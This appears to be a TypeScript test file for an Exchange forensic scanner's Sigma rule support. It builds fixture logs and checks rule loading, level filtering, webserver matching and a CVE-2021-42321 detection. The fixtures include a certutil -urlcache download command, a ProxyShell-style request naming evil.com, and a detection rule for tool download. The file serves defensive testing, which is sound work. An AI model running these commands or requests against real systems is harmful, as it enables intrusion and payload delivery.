// Sigma inside `exhunt scan`: the user's rules (--sigma) reach worker threads through the hunt setup,
// --sigma-level filters, rules that cannot load are reported with the reason, matches carry the rule's
// metadata and author, and look-alike admin activity stays context (the verdict does not move).
import assert from "node:assert/strict";
import { mkdirSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { createHuntContext } from "../../src/detections/context.js";
import { WorkerPool } from "../../src/hunt/pool.js";
import { prepareHunt } from "../../src/hunt/setup.js";
import type { ReadTask, TaskResult } from "../../src/hunt/task.js";
import { scan, UsageError } from "../../src/index.js";
import { tempDir } from "../helpers.js";

const USER_RULE = `title: Test user rule - certutil urlcache
id: 11111111-2222-3333-4444-555555555555
author: Test Author
level: medium
references:
    - https://example.org/rule
tags:
    - attack.t1105
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\\certutil.exe'
        CommandLine|contains|windash: ' -urlcache '
    condition: selection
`;

const BROKEN_RULE = `title: Broken
id: 99999999-2222-3333-4444-555555555555
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|nosuchmodifier: x
    condition: selection
`;

function sysmonLine(recordId: number, data: Record<string, string>, eventId = 1): string {
  return `${JSON.stringify({
    Event: {
      System: {
        Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon" } },
        EventID: eventId,
        Level: 4,
        TimeCreated: { "#attributes": { SystemTime: "2021-03-03T07:00:00.0000000Z" } },
        EventRecordID: recordId,
        Channel: "Microsoft-Windows-Sysmon/Operational",
        Computer: "EXCH01.contoso.local",
      },
      EventData: data,
    },
  })}\n`;
}

function evidence(root: string): string {
  const dir = join(root, "EXCH01", "Events");
  mkdirSync(dir, { recursive: true });
  const file = join(dir, "sysmon.jsonl");
  writeFileSync(
    file,
    sysmonLine(1, {
      Image: "C:\\Windows\\System32\\certutil.exe",
      CommandLine: "certutil /urlcache -f http://x/a.exe a.exe",
      ParentImage: "C:\\Windows\\System32\\cmd.exe",
    }) +
      // False-positive trap: certutil without -urlcache, and -urlcache in another program.
      sysmonLine(2, {
        Image: "C:\\Windows\\System32\\certutil.exe",
        CommandLine: "certutil -hashfile a.exe SHA256",
        ParentImage: "C:\\Windows\\explorer.exe",
      }) +
      sysmonLine(3, {
        Image: "C:\\Tools\\other.exe",
        CommandLine: "other -urlcache x",
        ParentImage: "C:\\Windows\\explorer.exe",
      }),
  );
  return file;
}

describe("sigma in scan", () => {
  test("the user's rules reach a worker thread and match there", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(join(rules, "user.yml"), USER_RULE);
    const file = evidence(root);
    const hunt = createHuntContext(prepareHunt({ sigma: [rules], sigmaBundled: false }));
    const pool = new WorkerPool(1, hunt, false); // no main lane: the task can only run in the worker
    try {
      const size = statSync(file).size;
      const task: ReadTask = {
        id: 1,
        abs: file,
        rel: "Events/sysmon.jsonl",
        size,
        fileKind: null,
        start: 0,
        end: size,
        rangeHeaderFields: null,
        ctx: { server: "TEST", file: "Events/sysmon.jsonl", installPath: null },
        maxDraftsPerCheck: 100,
      };
      const [r] = (await pool.run([task])) as TaskResult[];
      assert.equal(pool.mainJobs, 0);
      const sigma = r.drafts.filter((d) => d.check.startsWith("sigma"));
      assert.equal(sigma.length, 1, JSON.stringify(r.drafts));
      assert.equal(sigma[0].evidence.SigmaAuthor, "Test Author");
      assert.equal(sigma[0].evidence.RecordId, "1");
      assert.equal(sigma[0].rule?.id, "11111111-2222-3333-4444-555555555555");
    } finally {
      await pool.close();
    }
  });

  test("scan: a user rule's finding carries the rule's metadata; the bundled rules stay quiet here", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(join(rules, "user.yml"), USER_RULE);
    evidence(root);
    const result = await scan([join(root, "EXCH01")], { sigma: [rules], workers: 0 });
    const s = result.servers[0];
    const f = s.findings.filter((x) => x.check.startsWith("sigma"));
    assert.equal(f.length, 1);
    assert.equal(f[0].check, "sigma-match:11111111-2222-3333-4444-555555555555");
    assert.equal(f[0].effect, "context");
    assert.equal(f[0].title, "Sigma: Test user rule - certutil urlcache (by Test Author)");
    assert.equal(f[0].severity, "medium");
    assert.equal(f[0].evidence.SigmaTags, "attack.t1105");
    assert.equal(f[0].evidence.SigmaReferences, "https://example.org/rule");
    assert.match(f[0].evidence.CommandLine, /urlcache/);
    // A context finding alone does not make the server attempted or compromised.
    assert.notEqual(s.verdict, "compromised");
    assert.notEqual(s.verdict, "attempted");
  });

  test("--sigma-level drops rules below it; an unknown level is a usage error", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(join(rules, "user.yml"), USER_RULE);
    evidence(root);
    const result = await scan([join(root, "EXCH01")], { sigma: [rules], sigmaLevel: "high", workers: 0 });
    assert.equal(result.servers[0].findings.filter((x) => x.check.startsWith("sigma")).length, 0);
    await assert.rejects(scan([join(root, "EXCH01")], { sigmaLevel: "severe", workers: 0 }), UsageError);
  });

  test("a rule that cannot load is reported with the exact reason; a missing folder is a usage error", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(join(rules, "broken.yml"), BROKEN_RULE);
    writeFileSync(join(rules, "user.yml"), USER_RULE);
    evidence(root);
    const result = await scan([join(root, "EXCH01")], { sigma: [rules], workers: 0 });
    const s = result.servers[0];
    const sk = s.skipped.find((k) => k.file.endsWith("broken.yml"));
    assert.ok(sk, JSON.stringify(s.skipped));
    assert.match(
      sk.detail ?? "",
      /99999999-2222-3333-4444-555555555555.*unsupported.*modifier 'nosuchmodifier'/,
    );
    assert.equal(s.findings.filter((x) => x.check.startsWith("sigma")).length, 1, "the good rule still ran");
    await assert.rejects(
      scan([join(root, "EXCH01")], { sigma: [join(root, "nope")], workers: 0 }),
      UsageError,
    );
  });
});

describe("sigma webserver rules in scan", () => {
  test("a small rule set is gated by its literals in the one-pass search, and still finds its row", async (t) => {
    const root = tempDir(t);
    const rules = join(root, "rules");
    mkdirSync(rules);
    writeFileSync(
      join(rules, "web.yml"),
      "title: ProxyShell-like\nid: 33333333-2222-3333-4444-555555555555\nauthor: W\nlevel: medium\nlogsource:\n    category: webserver\n" +
        "detection:\n    s:\n        cs-uri-query|contains|all:\n            - '/autodiscover.json'\n            - '/mapi/nspi'\n    condition: s\n",
    );
    const dir = join(root, "EXCH01", "inetpub", "logs", "LogFiles", "W3SVC1");
    mkdirSync(dir, { recursive: true });
    const row = (stem: string, query: string) =>
      `2021-08-10 06:49:44 10.0.0.5 GET ${stem} ${query} 443 - 198.51.100.7 python-requests/2.25.1 - 200 0 0 12\r\n`;
    writeFileSync(
      join(dir, "u_ex210810.log"),
      "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n" +
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n" +
        row(
          "/autodiscover/autodiscover.json",
          "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
        ) +
        row("/autodiscover/autodiscover.json", "Email=user@contoso.com") +
        row("/owa/", "-"),
    );
    const result = await scan([join(root, "EXCH01")], { sigma: [rules], sigmaBundled: false, workers: 0 });
    const f = result.servers[0].findings.filter((x) => x.check.startsWith("sigma"));
    assert.equal(f.length, 1);
    assert.equal(f[0].source.line, 4);
    assert.equal(f[0].rule.author, "W");
  });
});

describe("MSExchange Management event 8 through the bundled rules", () => {
  test("a message-only 'Task Get-App throwing unhandled exception: InvalidCastException' is the CVE-2021-42321 attempt; another exception is not", async (t) => {
    const root = tempDir(t);
    const dir = join(root, "EXCH01", "Events");
    mkdirSync(dir, { recursive: true });
    const line = (id: number, message: string) =>
      JSON.stringify({
        EventID: 8,
        SourceName: "MSExchange CmdletLogs",
        Channel: "MSExchange Management",
        Hostname: "EXCH01",
        EventTime: "2021-11-20T10:00:00Z",
        RecordNumber: id,
        Message: message,
      });
    writeFileSync(
      join(dir, "mgmt.json"),
      `${line(1, "Task Get-App throwing unhandled exception: System.InvalidCastException: Unable to cast object")}\n${line(2, "Task Get-App throwing unhandled exception: System.ArgumentException: bad identity")}\n`,
    );
    const s = (await scan([join(root, "EXCH01")], { workers: 0 })).servers[0];
    assert.equal(s.stats.records, 2);
    const hits = s.findings.filter((f) => f.rule.id === "c92f1896-d1d2-43c3-92d5-7a5b35c217bb");
    assert.equal(hits.length, 1);
    assert.equal(hits[0].effect, "attempt");
    assert.equal(hits[0].evidence.RecordId, "1");
    assert.match(hits[0].rule.author ?? "", /Florian Roth/);
  });
});
